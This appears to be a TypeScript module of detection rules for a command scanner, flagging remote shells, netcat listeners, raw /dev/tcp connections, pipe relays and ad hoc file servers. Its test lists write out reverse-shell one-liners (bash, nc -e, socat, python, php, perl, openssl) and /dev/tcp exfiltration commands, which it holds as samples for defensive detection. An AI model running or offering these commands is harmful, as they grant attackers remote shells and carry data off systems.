import { codeOf, isShell, isSocket, netcats, runsWhatItReads } from './execution.ts';
import { hasOption, optionValue, sourcesOf, type Rule } from './rule.ts';

const codeOpensSocket = /socket|fsockopen|\/inet\/tcp|net\.connect|TCPSocket|IO::Socket|Socket\.tcp|pfsockopen/i;
const codeStartsShell =
  /dup2|pty\.spawn|subprocess|child_process|\b(system|exec[lv]*p?e?|popen|spawn|passthru|shell_exec|proc_open|os\.execute)\b|\/bin\/(ba|z|da|k)?sh|`|\|&\s*getline|>&/;

export const remote: readonly Rule[] = [
  {
    code: 'REMOTE_SHELL',
    tactic: 'COMMAND_AND_CONTROL',
    points: 50,
    find(program, reading) {
      const socketFile = program.redirects.find(({ target }) => /^\/dev\/(tcp|udp)\//.test(target));
      if (socketFile !== undefined && (isShell(program) || program.name === 'exec' || socketFile.operator === '<>'))
        return 'connects a shell to the network';
      if (netcats.test(program.name) && (hasOption(program, 'e', '--exec', '--sh-exec') || optionValue(program, '-c') !== null))
        return `hands a program to the network with ${program.name}`;
      if (program.name === 'socat' && program.args.some((word) => /^(exec|system|shell):/i.test(word)))
        return 'hands a program to the network with socat';
      const code = codeOf(program);
      if (codeOpensSocket.test(code) && codeStartsShell.test(code)) return `connects a shell to the network in ${program.name}`;
      if (isSocket(program) && sourcesOf(program, reading).some((source) => isShell(source) && runsWhatItReads(source)))
        return 'sends a shell over the network';
      return null;
    },
    suspicious: [
      'bash -i >& /dev/tcp/192.0.2.1/443 0>&1',
      'exec 5<>/dev/tcp/192.0.2.1/443',
      'nc -e /bin/sh h 1',
      'ncat h 1 --exec /bin/bash',
      'socat tcp:h:1 exec:/bin/sh',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f',
      'python3 -c "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"',
      'php -r \'$s=fsockopen("h",1);exec("sh <&3");\'',
      'sh -i < p 2>&1 | openssl s_client -quiet -connect h:1 > p',
      'perl -e \'use Socket;exec("/bin/sh -i");\'',
    ],
    harmless: [
      'nc -zv h 22',
      'nc h 80',
      'echo x > /dev/tcp/h/80',
      'bash -i',
      'python3 -c "import socket; print(socket.gethostname())"',
      'openssl s_client -connect h:443',
      'socat - tcp:h:80',
      'bash script.sh | tee log',
    ],
  },
  {
    code: 'NETWORK_LISTENER',
    tactic: 'COMMAND_AND_CONTROL',
    points: 30,
    find: (program) =>
      netcats.test(program.name) && hasOption(program, 'l', '--listen') ? `waits for connections with ${program.name}` : null,
    suspicious: ['nc -l 4444', 'nc -lvnp 4444', 'ncat --listen 4444', 'busybox nc -l -p 1', 'sudo netcat -u -l 1'],
    harmless: ['nc -z h 1', 'ncat h 1', 'ls -l nc', 'nc -h'],
  },
  {
    code: 'RAW_CONNECTION',
    tactic: 'COMMAND_AND_CONTROL',
    points: 30,
    find(program) {
      const socketFile = program.redirects.find(({ target }) => /^\/dev\/(tcp|udp)\/(?!localhost|127\.)/.test(target));
      // Whether a port is open is asked by writing nothing, or one constant word, to it.
      const asks = program.name === '' || program.name === ':' || program.redirects.some(({ target }) => target === '/dev/null');
      if (socketFile === undefined || asks || isShell(program)) return null;
      return /^(echo|printf|true)$/.test(program.name) && !program.args.some((word) => /\$[({]|\$\w/.test(word))
        ? null
        : `sends or fetches by ${socketFile.target.slice(0, 60)}`;
    },
    suspicious: ['cat x > /dev/tcp/h/80', 'bash -c "cat x > /dev/tcp/h/80"', 'echo "$(<x)" > /dev/tcp/h/80', 'cat < /dev/tcp/h/80 > x'],
    harmless: [
      'echo x > /dev/tcp/h/80',
      'cat < /dev/null > /dev/tcp/h/80',
      '(: > /dev/tcp/h/80) 2>/dev/null',
      'cat x > /dev/tcp/localhost/80',
    ],
  },
  {
    code: 'RELAY',
    tactic: 'COMMAND_AND_CONTROL',
    points: 50,
    find(program, reading) {
      if (!isSocket(program)) return null;
      const pipe = reading.programs.find(({ name, args }) => name === 'mkfifo' || (name === 'mknod' && args.includes('p')));
      return pipe === undefined ? null : `ties ${program.name} to a named pipe, so that answers go back`;
    },
    suspicious: [
      'mkfifo f; nc -l 80 < f | nc h 80 > f',
      'mknod p p; telnet h 1 < p | tee p',
      'mkfifo /tmp/s; cat /tmp/s | x 2>&1 | openssl s_client -connect h:1 > /tmp/s',
    ],
    harmless: ['mkfifo f; cat f', 'nc h 80', 'mkfifo f; gzip < f > x'],
  },
  {
    code: 'FOLDER_SERVED',
    tactic: 'EXFILTRATION',
    points: 15,
    find(program) {
      const words = program.args.join(' ');
      const serves =
        (program.name.startsWith('python') && /^-m (http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)\b/.test(words)) ||
        (program.name === 'php' && /(^| )-S (0\.0\.0\.0|\$|\[::\])/.test(words)) ||
        (program.name === 'ruby' && /-run\b.*\bhttpd\b/.test(words)) ||
        (program.name === 'httpd' && program.via.includes('busybox')) ||
        (program.name === 'kubectl' && words.startsWith('proxy ') && words.includes('--www'));
      return serves ? `lets others fetch this folder by ${program.name}` : null;
    },
    suspicious: ['python3 -m http.server 8000', 'php -S 0.0.0.0:8080', 'ruby -run -e httpd . -p 80', 'busybox httpd -f -p 1 -h .'],
    harmless: ['php -S localhost:8080', 'python3 -m venv x', 'ruby server.rb', 'httpd -t'],
  },
];
